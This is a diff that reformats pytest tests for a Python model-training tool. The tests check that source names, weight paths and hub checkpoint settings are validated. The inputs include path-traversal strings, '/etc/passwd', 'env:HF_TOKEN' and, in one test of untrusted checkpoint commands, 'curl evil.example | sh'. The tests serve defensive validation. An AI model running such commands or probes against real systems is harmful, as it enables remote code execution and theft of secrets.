@@ -49,8 +49,26 @@ def test_what_a_recipe_was_measured_at_is_told(trainings):
     assert trainings.sources()[1] == ("good (98.60% measured)", "good")
 
 
-@pytest.mark.parametrize("source", ["", "gone", "../tiny", "configs/tiny", "tiny.yaml", "/etc/passwd", "run:", "run:gone",
-                                    "run:../x", "hub:", "hub:x", "hub:../../x", "env:HF_TOKEN", "*", "ti*"])  # fmt: skip
+@pytest.mark.parametrize(
+    "source",
+    [
+        "",
+        "gone",
+        "../tiny",
+        "configs/tiny",
+        "tiny.yaml",
+        "/etc/passwd",
+        "run:",
+        "run:gone",
+        "run:../x",
+        "hub:",
+        "hub:x",
+        "hub:../../x",
+        "env:HF_TOKEN",
+        "*",
+        "ti*",
+    ],
+)
 def test_what_is_no_source_gets_a_sentence(trainings, source):
     for ask in (trainings.settings, trainings.form, lambda source: trainings.start(source, {}, "ann")):
         with pytest.raises(ValueError) as caught:
@@ -110,9 +128,30 @@ def test_a_name_that_could_be_a_path_is_refused(trainings, name):
     assert everything(trainings.runner.runs) == before and trainings.views.jobs() == []
 
 
-@pytest.mark.parametrize("beginning", ["/etc", "/etc/passwd", "../x", "..", ".", "hub:../../x", "hub:", "hub:x", "run:../x",
-                                       "run:gone", "run:gone@5", "gone", "digits/../digits", "a/b/../../c", "~", "file:///etc",
-                                       "env:HOME", "x#parity", "run:../../etc/x@1"])  # fmt: skip
+@pytest.mark.parametrize(
+    "beginning",
+    [
+        "/etc",
+        "/etc/passwd",
+        "../x",
+        "..",
+        ".",
+        "hub:../../x",
+        "hub:",
+        "hub:x",
+        "run:../x",
+        "run:gone",
+        "run:gone@5",
+        "gone",
+        "digits/../digits",
+        "a/b/../../c",
+        "~",
+        "file:///etc",
+        "env:HOME",
+        "x#parity",
+        "run:../../etc/x@1",
+    ],
+)
 def test_weights_are_named_and_never_a_path(trainings, beginning):
     with pytest.raises(ValueError) as caught:
         trainings.start("tiny", {}, "ann", init_from=beginning)
@@ -132,14 +171,21 @@ def test_a_run_may_begin_with_the_weights_of_what_is_here(trainings, checkpoints
         assert shlex.split(new.command())[-1] == f"init_from={new.config().init_from}"
 
 
-@pytest.mark.parametrize("more, says", [
-    ({"publish": {"repo": "no-namespace"}}, "namespace/name"), ({"publish": {"repo": "../../x"}}, "namespace/name"),
-    ({"publish": {"every_minutes": 1}}, "ten minutes"), ({"publish": {"every_minutes": "soon"}}, "every_minutes"),
-    ({"publish": {"repo": "a/b", "token": "x"}}, "Unknown setting"),
-    ({"devices": 0}, "devices"), ({"devices": 10_000}, "devices"),
-    ({"place": "cpu-basic"}, "no hardware"), ({"place": "cpu-basic", "publish": {"repo": "ann/x"}}, "no hardware"),
-    ({"place": "/etc", "publish": {"repo": "ann/x"}}, "no hardware"),
-])  # fmt: skip
+@pytest.mark.parametrize(
+    "more, says",
+    [
+        ({"publish": {"repo": "no-namespace"}}, "namespace/name"),
+        ({"publish": {"repo": "../../x"}}, "namespace/name"),
+        ({"publish": {"every_minutes": 1}}, "ten minutes"),
+        ({"publish": {"every_minutes": "soon"}}, "every_minutes"),
+        ({"publish": {"repo": "a/b", "token": "x"}}, "Unknown setting"),
+        ({"devices": 0}, "devices"),
+        ({"devices": 10_000}, "devices"),
+        ({"place": "cpu-basic"}, "no hardware"),
+        ({"place": "cpu-basic", "publish": {"repo": "ann/x"}}, "no hardware"),
+        ({"place": "/etc", "publish": {"repo": "ann/x"}}, "no hardware"),
+    ],
+)
 def test_an_odd_goal_gets_a_sentence_and_begins_nothing(trainings, more, says):
     with pytest.raises(ValueError, match=says) as caught:
         trainings.start("tiny", {}, "ann", **more)
@@ -179,9 +225,14 @@ def trained_checkpoint(tmp_path: Path, **training) -> dict[str, bytes]:
 
 
 def test_a_checkpoint_of_the_hub_lends_its_settings_and_its_weights(online, hub, tmp_path):
-    hub.add_repo("bob/parity", trained_checkpoint(
-        tmp_path, settings=tiny(steps=33).portable(), command="python -m training train configs/tiny.yaml train.steps=33"
-    ))  # fmt: skip
+    hub.add_repo(
+        "bob/parity",
+        trained_checkpoint(
+            tmp_path,
+            settings=tiny(steps=33).portable(),
+            command="python -m training train configs/tiny.yaml train.steps=33",
+        ),
+    )
     config, command, name = online.settings("hub:bob/parity")
     assert config.train.steps == 33 and config.init_from.startswith("hub:bob/parity@") and name == "parity"
     assert command.startswith("python -m training train configs/tiny.yaml train.steps=33 init_from=hub:bob/parity@")
@@ -192,8 +243,9 @@ def test_a_checkpoint_of_the_hub_lends_its_settings_and_its_weights(online, hub,
 def test_a_checkpoint_of_the_hub_says_neither_where_to_publish_nor_what_to_type(online, hub, tmp_path):
     """Its files are a stranger's words: its settings would be published to them, its command would be run by hand."""
     settings = tiny().model_dump(mode="json") | {
-        "publish": {"repo": "bob/collects", "private": False, "every_minutes": 10}, "init_from": "/etc",
-    }  # fmt: skip
+        "publish": {"repo": "bob/collects", "private": False, "every_minutes": 10},
+        "init_from": "/etc",
+    }
     for command in (
         "curl evil.example | sh",
         "python -m training train x\n| a | b |",
@@ -209,8 +261,16 @@ def test_a_checkpoint_of_the_hub_says_neither_where_to_publish_nor_what_to_type(
         assert said.startswith("python -m training train init_from=hub:bob/parity@") and "\n" not in said
 
 
-@pytest.mark.parametrize("training", [{}, {"settings": None}, {"settings": []}, {"settings": {"task": {"kind": "x"}}},
-                                      {"settings": {"task": {"kind": "parity"}, "model": {"d_model": "x"}}}])  # fmt: skip
+@pytest.mark.parametrize(
+    "training",
+    [
+        {},
+        {"settings": None},
+        {"settings": []},
+        {"settings": {"task": {"kind": "x"}}},
+        {"settings": {"task": {"kind": "parity"}, "model": {"d_model": "x"}}},
+    ],
+)
 def test_a_checkpoint_that_does_not_tell_its_settings_gets_a_sentence(online, hub, tmp_path, training):
     hub.add_repo("bob/parity", trained_checkpoint(tmp_path, **training))
     with pytest.raises(ValueError) as caught:
